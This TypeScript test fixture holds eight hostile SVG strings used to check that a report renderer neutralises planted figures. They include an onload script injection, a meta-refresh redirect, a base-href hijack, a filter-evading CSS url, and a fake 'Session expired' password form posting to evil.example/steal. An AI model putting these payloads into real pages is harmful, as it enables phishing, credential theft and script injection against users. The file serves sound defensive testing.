// Planted figures an adversary put in figures/ (issue 13), for test/report.test.ts and
// test/browser/report.test.ts: inlined as markup, each navigated, linked out, fetched or
// added a form; the report must refuse each or show it inert, as an image.
/** Name -> SVG text. */
export const HOSTILE_SVGS: Record<string, string> = {
  "svg-onload": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"><svg/onload=alert(1)><rect width="10" height="10"/></svg>`,
  "unquoted-link": `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="50"><a href=https://evil.example/phish><text x="5" y="20">More results here</text></a><image href=http://127.0.0.1:9/x.png width="10" height="10"/></svg>`,
  "meta-refresh": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"><meta http-equiv="refresh" content="0;url=https://evil.example/moved"></svg>`,
  "base": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"><base href=https://evil.example/><rect width="10" height="10"/></svg>`,
  "animate-href": `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="50"><a><animate attributeName="href" values="https://evil.example/anim" fill="freeze"/><text x="5" y="20">animated link</text></a></svg>`,
  "form": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"></svg><form action="https://evil.example/steal" method="post"><p>Session expired</p><input name="pw" type="password"><button>Submit</button></form><svg>`,
  "css-url": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"><rect width="10" height="10" style="fill:red"/><style>rect{background:u\\72l(http://127.0.0.1:9/css.png)}</style></svg>`,
  "xlink": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"><a xlink:href="http://evil.example/"><text y="20">x</text></a></svg>`,
};

